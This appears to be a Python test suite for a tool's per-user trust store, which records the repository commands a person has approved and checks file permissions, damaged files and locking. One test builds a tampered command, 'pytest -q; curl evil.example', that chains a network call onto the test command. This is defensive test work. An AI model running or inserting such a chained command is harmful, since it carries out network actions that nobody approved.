"""Trust: each command is agreed to once, by a person, on their own machine."""

import json
import stat
from pathlib import Path

import pytest

from fairlead.governance.adapters import user_trust_file
from fairlead.governance.adapters.memory_trust import MemoryTrust
from fairlead.governance.adapters.user_trust_file import LOCK_NAME, UserTrustFile
from fairlead.governance.policy import (
    RepositoryCommand,
    RepositoryNotTrusted,
    Trust,
    TrustedRepository,
    TrustStore,
    TrustUnreadable,
)
from fairlead.shared_kernel.adapters.file_locks import FileLocks
from fairlead.shared_kernel.adapters.fixed_clock import FixedClock
from fairlead.shared_kernel.locks import LockTimeout

TESTS = RepositoryCommand("one: FR-001", "pytest -q")
LINT = RepositoryCommand("one: FR-002", "ruff check")


@pytest.fixture
def file(tmp_path: Path) -> UserTrustFile:
    return UserTrustFile({"XDG_CONFIG_HOME": str(tmp_path / "config")}, FileLocks())


@pytest.fixture(params=["file", "memory"])
def store(request: pytest.FixtureRequest, file: UserTrustFile) -> TrustStore:
    return file if request.param == "file" else MemoryTrust()


def trust(store: TrustStore, repository: str = "/repositories/one") -> Trust:
    return Trust(store, FixedClock(), Path(repository))


def test_nothing_is_trusted_before_anybody_said_so(store: TrustStore) -> None:
    assert store.all() == []
    with pytest.raises(RepositoryNotTrusted) as refused:
        trust(store).demand([TESTS, LINT, TESTS])

    assert [c["command"] for c in refused.value.commands] == ["pytest -q", "ruff check"]
    assert "fairlead trust" in refused.value.next_step


def test_what_was_agreed_to_passes_from_then_on(store: TrustStore) -> None:
    trust(store).grant([TESTS])

    trust(store).demand([TESTS])
    assert trust(store).missing([TESTS, LINT]) == (LINT,)


def test_a_command_that_changed_is_asked_about_again(store: TrustStore) -> None:
    trust(store).grant([TESTS])

    with pytest.raises(RepositoryNotTrusted):
        trust(store).demand([RepositoryCommand(TESTS.origin, "pytest -q; curl evil.example")])


def test_a_command_may_move_to_another_place(store: TrustStore) -> None:
    trust(store).grant([TESTS])

    trust(store).demand([RepositoryCommand("elsewhere", TESTS.command)])


def test_another_repository_with_the_same_command_is_another_question(store: TrustStore) -> None:
    trust(store).grant([TESTS])

    with pytest.raises(RepositoryNotTrusted):
        trust(store, "/repositories/two").demand([TESTS])


def test_trust_grows_and_is_revoked_as_a_whole(store: TrustStore) -> None:
    trust(store, "/repositories/two").grant([LINT])
    trust(store).grant([TESTS])
    first = trust(store).known()
    trust(store).grant([TESTS, LINT])
    second = trust(store).known()

    assert first and second
    assert second.commands == (TESTS, LINT)
    assert first.digest != second.digest
    assert trust(store).revoke() is True
    assert trust(store).revoke() is False
    assert [one.path.name for one in store.all()] == ["two"]


def test_the_digest_does_not_depend_on_the_order() -> None:
    one = TrustedRepository(Path("/a"), (TESTS, LINT), "")
    other = TrustedRepository(Path("/a"), (LINT, TESTS), "later")

    assert one.digest == other.digest


def test_the_file_is_the_users_own_and_nobody_elses(file: UserTrustFile, tmp_path: Path) -> None:
    trust(file).grant([TESTS])

    assert file.file == tmp_path / "config" / "fairlead" / "trust.json"
    assert stat.S_IMODE(file.file.stat().st_mode) == 0o600
    assert stat.S_IMODE(file.file.parent.stat().st_mode) == 0o700
    assert json.loads(file.file.read_text())["version"] == 1
    listed = list(file.file.parent.iterdir())
    assert [one.name for one in listed if not one.name.startswith(LOCK_NAME)] == ["trust.json"]
    assert {stat.S_IMODE(one.stat().st_mode) for one in listed} == {0o600}


@pytest.mark.parametrize(
    ("given", "expected"),
    [
        ({"HOME": "/home-of-mine"}, "/home-of-mine/.config"),
        ({"HOME": "/home-of-mine", "XDG_CONFIG_HOME": "/xdg"}, "/xdg"),
        ({"HOME": "/home-of-mine", "XDG_CONFIG_HOME": "relative"}, "/home-of-mine/.config"),
        ({"HOME": "/home-of-mine", "XDG_CONFIG_HOME": ""}, "/home-of-mine/.config"),
    ],
)
def test_the_place_follows_the_rules_of_xdg(given: dict[str, str], expected: str) -> None:
    assert UserTrustFile(given, FileLocks()).file == Path(expected) / "fairlead" / "trust.json"


@pytest.mark.parametrize(
    "text",
    [
        "{",
        "[]",
        '{"version": 2, "repositories": []}',
        '{"version": 1, "repositories": [1]}',
        '{"version": 1, "repositories": [{"repository": "/a"}]}',
        "\xff",
    ],
)
def test_a_damaged_file_trusts_nothing_and_is_not_written_over(
    file: UserTrustFile, text: str
) -> None:
    file.file.parent.mkdir(parents=True)
    file.file.write_text(text, encoding="latin-1")
    file.file.chmod(0o600)

    for ask in (file.all, lambda: trust(file).grant([TESTS]), lambda: trust(file).revoke()):
        with pytest.raises(TrustUnreadable):
            ask()
    assert file.file.read_text(encoding="latin-1") == text


@pytest.mark.parametrize("mode", [0o620, 0o602, 0o666])
def test_a_file_that_others_can_write_is_not_believed(file: UserTrustFile, mode: int) -> None:
    trust(file).grant([TESTS])
    file.file.chmod(mode)

    with pytest.raises(TrustUnreadable) as refused:
        trust(file).demand([TESTS])

    assert "chmod 600" in refused.value.next_step


def test_a_link_to_the_file_stays_a_link(file: UserTrustFile, tmp_path: Path) -> None:
    kept = tmp_path / "dotfiles" / "trust.json"
    kept.parent.mkdir()
    file.file.parent.mkdir(parents=True)
    file.file.symlink_to(kept)

    trust(file).grant([TESTS])

    assert file.file.is_symlink()
    assert file.file.samefile(kept)
    trust(file).demand([TESTS])


def test_nobody_else_writes_between_reading_and_writing(
    file: UserTrustFile, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Else what another command revoked in between would be trusted again."""
    tried: list[Path] = []

    def replace(path: Path, data: bytes) -> None:
        other = FileLocks().hold(path.with_name(LOCK_NAME), purpose="revoke", timeout=0)
        with pytest.raises(LockTimeout), other:
            raise AssertionError("somebody else may write now")
        tried.append(path)
        path.write_bytes(data)
        path.chmod(0o600)

    monkeypatch.setattr(user_trust_file, "replace_file", replace)

    trust(file).grant([TESTS])
    trust(file).revoke()

    assert tried == [file.file, file.file]
    assert file.all() == []
